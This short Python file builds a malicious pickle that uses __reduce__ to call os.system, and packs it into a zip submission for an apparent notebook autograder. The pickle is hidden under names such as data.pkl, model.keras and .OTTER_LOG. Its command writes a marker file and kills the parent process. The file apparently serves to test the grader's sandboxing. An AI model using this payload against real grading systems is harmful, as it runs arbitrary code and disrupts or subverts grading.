import io
import os
import pickle
import zipfile


def pack(members):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data, compress_type=zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


class Evil:
    def __reduce__(self):
        return os.system, ("touch /tmp/autograder-box-pickled; kill -9 $PPID",)


def craft(notebook):
    evil = pickle.dumps(Evil())
    return {
        "Some Body.zip": pack(
            {
                ".OTTER_LOG": evil,
                "target.ipynb": notebook,
                "data.pkl": evil,
                "__zip_filename__": b"target_2026_11_02.zip",
                "model.keras": evil,
            }
        )
    }
